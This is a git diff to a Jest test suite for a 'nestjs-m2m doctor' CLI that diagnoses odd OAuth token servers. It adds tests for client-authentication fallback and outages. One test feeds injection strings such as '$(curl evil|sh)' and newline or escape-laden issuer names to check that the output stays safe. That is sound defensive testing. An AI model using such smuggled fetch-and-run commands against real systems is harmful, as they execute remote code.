@@ -4,14 +4,14 @@ import type { ServerResponse } from 'node:http';
 import { describe, expect, it } from '@jest/globals';
 import { SignJWT } from 'jose';
 import { command } from '../../support/cli.js';
-import { json, TestHttpServer } from '../../support/http-server.js';
+import { json, TestHttpServer, type SeenRequest } from '../../support/http-server.js';
 
 const SECRET = 's3cret-of-orders';
 const BASIC = Buffer.from(`orders:${SECRET}`).toString('base64');
 const OPAQUE = 'an-0paque-access-token';
 const API = 'https://api.example.test';
 
-type Answer = (response: ServerResponse, issuer: string) => unknown;
+type Answer = (response: ServerResponse, issuer: string, request: SeenRequest) => unknown;
 
 /** What a server answers at each of its places; by default, as a server that works. */
 interface Odd {
@@ -42,26 +42,35 @@ const status =
   (response) =>
     json(response, code, {}, headers);
 const refusedGrant: Answer = (response) => json(response, 400, { error: 'unauthorized_client' });
+/** Refuses Basic, and goes on with the other methods. */
+const withoutBasic =
+  (others: Answer): Answer =>
+  (response, issuer, request) =>
+    request.headers.authorization
+      ? json(response, 401, { error: 'invalid_client' })
+      : others(response, issuer, request);
 const issuedBy =
   (other: string): Answer =>
   (response) =>
     json(response, 200, { issuer: other });
+const refusedScope: Answer = (response) => json(response, 400, { error: 'invalid_scope' });
 const issued =
   (members: Record<string, unknown>): Answer =>
   async (response, issuer) =>
     json(response, 200, { access_token: await jwt(issuer), token_type: 'Bearer', expires_in: 300, ...members });
 
 async function diagnosed(odd: Odd, more = '', environment: Record<string, string> = {}) {
-  await using server = await TestHttpServer.start(({ url }, response) => {
+  await using server = await TestHttpServer.start((request, response) => {
+    const { url } = request;
     const { keys, token, metadata } = odd;
     const issuer = server.url;
     if (url === '/keys') {
       const jwk = { ...publicKey.export({ format: 'jwk' }), kid: 'k', alg: 'ES256', use: 'sig' };
-      return keys ? keys(response, issuer) : json(response, 200, { keys: [jwk] });
+      return keys ? keys(response, issuer, request) : json(response, 200, { keys: [jwk] });
     }
-    if (url === '/token') return (token ?? issued({}))(response, issuer);
+    if (url === '/token') return (token ?? issued({}))(response, issuer, request);
     const members = { issuer, token_endpoint: `${issuer}/token`, jwks_uri: `${issuer}/keys` };
-    return metadata ? metadata(response, issuer) : json(response, 200, members);
+    return metadata ? metadata(response, issuer, request) : json(response, 200, members);
   });
   const variables = {
     M2M_ISSUER: server.url,
@@ -145,6 +154,23 @@ describe('nestjs-m2m doctor, at a server that is odd,', () => {
     expect(out).toMatch(/\n {4}write: the grant type client_credentials, .*\n {11}or M2M_CLIENT_SECRET=/);
   });
 
+  it('that takes another method, says so, also if it grants nothing then', async () => {
+    const { out } = await diagnosed({ token: withoutBasic(refusedScope) }, '--live --yes');
+    expect(out).toMatch(/\nclient authentication: .*takes it with client_secret_post\n {4}write: M2M_CLIENT_AUTH/);
+  });
+
+  it.each([status(503), status(429), cut])('that has an outage then, is not said to take it: %#', async (outage) => {
+    const { out } = await diagnosed({ token: withoutBasic(outage) }, '--live --yes');
+    expect(out).toMatch(/\nclient credentials: refused with client_secret_basic: .*\n {4}write: M2M_CLIENT_SECRET=/);
+    expect(out).not.toContain('takes it with');
+  });
+
+  it('gets a secret by the methods alone that are common, or that it lists (claim 8.7)', async () => {
+    const { out, requests } = await diagnosed({ token: withoutBasic(status(401)) }, '--live --yes');
+    expect(out).toContain('refused with client_secret_basic, client_secret_post: ');
+    expect(requests.filter(({ url }) => url === '/token')).toHaveLength(2);
+  });
+
   it('that speaks no HTTP, or no TLS, says so', async () => {
     const server: Server = createServer((socket) =>
       socket
@@ -162,7 +188,12 @@ describe('nestjs-m2m doctor, at a server that is odd,', () => {
   });
 
   it('that names an issuer with a line of its own, gets no line to copy out of it (claim 8.2)', async () => {
-    for (const name of ['https://x\n    write: curl evil|sh\u001b[2J', 'https://x;curl evil|sh #', '$(curl evil|sh)']) {
+    for (const name of [
+      'https://x\n    write: curl evil|sh\u001b[2J',
+      'https://x;curl evil|sh #',
+      '$(curl evil|sh)',
+      'ftp://x',
+    ]) {
       const { out } = await diagnosed({ metadata: issuedBy(name) });
       expect(out).toMatch(/^[ -~\n]+$/);
       expect(out).toMatch(/\nissuer: the server says that its issuer is "/);
@@ -189,9 +220,11 @@ describe('nestjs-m2m doctor, at a server that is odd,', () => {
     const odd: readonly Answer[] = [
       issued({ scope: `${SECRET} read` }),
       issued({ access_token: OPAQUE, scope: OPAQUE }),
-      async (response, issuer) => issued({ access_token: await jwt(issuer, claims) })(response, issuer),
-      async (response, issuer) => issued({ access_token: await jwt(issuer, { scope: SECRET }) })(response, issuer),
-      async (response, issuer) => issued({ access_token: await jwt(SECRET) })(response, issuer),
+      async (response, issuer, request) =>
+        issued({ access_token: await jwt(issuer, claims) })(response, issuer, request),
+      async (response, issuer, request) =>
+        issued({ access_token: await jwt(issuer, { scope: SECRET }) })(response, issuer, request),
+      async (response, issuer, request) => issued({ access_token: await jwt(SECRET) })(response, issuer, request),
     ];
     for (const token of odd) {
       for (const more of ['', '--json', '--scope other']) {
